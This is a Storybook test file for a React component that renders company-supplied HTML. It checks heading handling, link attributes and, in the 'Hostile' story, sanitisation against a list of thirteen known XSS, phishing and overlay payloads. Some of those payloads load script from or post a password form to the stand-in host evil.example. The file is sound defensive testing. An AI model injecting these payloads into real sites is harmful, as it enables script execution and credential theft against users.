import type { Meta, StoryObj } from '@storybook/react-vite';
import { expect, within } from 'storybook/test';
import { CompanyText } from './CompanyText.tsx';

const meta = {
  component: CompanyText,
  args: { html: '', missing: <p>Nothing to read</p> },
} satisfies Meta<typeof CompanyText>;
export default meta;

type Story = StoryObj<typeof meta>;

export const Markup: Story = {
  args: {
    html: `<p>What it is about.</p><h1>First</h1><p>Words, <em>words</em> and <strong>words</strong>.</p>
<h3>Smaller</h3><ol><li>One</li><li>Two</li></ol><blockquote>Said once.</blockquote><hr>
<table><thead><tr><th>Tier</th><th>Vouchers</th></tr></thead>
<tbody><tr><td>Silver</td><td>RM500</td></tr></tbody></table>`,
  },
  play: async ({ canvasElement }) => {
    const heading = within(canvasElement).getByRole('heading', { name: 'First' });
    await expect(heading.tagName).toBe('H2');
  },
};

/** External links open in a new tab; mail, phone and internal links do not. */
export const Links: Story = {
  args: {
    html: `<p><a href="https://cch.example" target="_top" rel="opener">site</a>
<a href="mailto:hello@cch.example">mail</a> <a href="tel:+60321485500">phone</a> <a href="/tnc">terms</a></p>`,
  },
  play: async ({ canvasElement }) => {
    const [site, ...others] = within(canvasElement).getAllByRole('link');
    await expect(site).toHaveAttribute('target', '_blank');
    await expect(site).toHaveAttribute('rel', 'noopener noreferrer');
    await expect(others.map((link) => link.getAttribute('href'))).toEqual([
      'mailto:hello@cch.example',
      'tel:+60321485500',
      '/tnc',
    ]);
    for (const link of others) await expect(link).not.toHaveAttribute('target');
  },
};

const RUN = 'document.documentElement.dataset.attacked = 1';

/** Known vectors for script injection, phishing and overlays. */
const HOSTILE = [
  `<script>${RUN}</script><SCRIPT SRC="https://evil.example/x.js"></SCRIPT>`,
  `<img src="x" onerror="${RUN}"><img src=x onerror=${RUN}//`,
  `<svg onload="${RUN}"><script>${RUN}</script><a xlink:href="javascript:${RUN}"><text>svg</text></a></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  `<iframe src="javascript:${RUN}" srcdoc="<script>${RUN}</script>"></iframe><object data="x"></object><embed src="x">`,
  `<style>* { display: none } body { background: url(https://evil.example) }</style><link rel="stylesheet" href="x">`,
  `<form action="https://evil.example"><input name="password"><button formaction="javascript:${RUN}">Log in</button></form>`,
  `<p style="position:fixed;inset:0" class="x" id="root" onclick="${RUN}" data-x="1" autofocus tabindex="1">kept</p>`,
  `<a href="javascript:${RUN}">one</a><a href=" jav&#x09;ascript:${RUN}">two</a><a href="data:text/html,<script>${RUN}</script>">three</a>`,
  `<a href="//evil.example">four</a><a href="vbscript:x">five</a><a href="http://evil.example">six</a><a href="https://ok.example" onclick="${RUN}" ping="https://evil.example">seven</a>`,
  `<a href="/\\evil.example">eight</a><a href="\\\\evil.example">nine</a><a href="/&#x09;/evil.example">ten</a>`,
  `<base href="https://evil.example"><meta http-equiv="refresh" content="0;url=https://evil.example"><template><img src=x onerror=${RUN}></template>`,
  `<video><source onerror="${RUN}"></video><details open ontoggle="${RUN}"><summary>x</summary></details><dialog open>x</dialog>`,
];

/** Hostile HTML: only its text and safe links remain. Each sample is rendered separately. */
export const Hostile: Story = {
  render: ({ missing }) => (
    <>
      {HOSTILE.map((html) => (
        <CompanyText key={html} html={`<p>Before</p>${html}`} missing={missing} />
      ))}
    </>
  ),
  play: async ({ canvasElement }) => {
    const articles = within(canvasElement).getAllByRole('article');
    await expect(articles).toHaveLength(HOSTILE.length);
    const all = articles.flatMap((article) => [...article.querySelectorAll('*')]);
    const names = new Set(all.map(({ localName }) => localName));
    await expect([...names].sort()).toEqual(['a', 'p']);
    const attributes = new Set(all.flatMap((element) => element.getAttributeNames()));
    await expect([...attributes].sort()).toEqual(['href', 'rel', 'target']);
    const links = all.flatMap((element) => element.getAttribute('href') ?? []);
    await expect(links).toEqual(['https://ok.example']);
    // An injected image handler would have run by the time this picture has failed.
    const image = new Image();
    const failed = new Promise((resolve) => image.addEventListener('error', resolve));
    image.src = 'data:,';
    await failed;
    await expect(document.documentElement.dataset.attacked).toBeUndefined();
  },
};

/** Markup without text counts as missing. */
export const OnlyMarkup: Story = {
  args: { html: `<p> </p><script>${RUN}</script><br>` },
  play: async ({ canvasElement }) => {
    await expect(within(canvasElement).getByText('Nothing to read')).toBeVisible();
  },
};
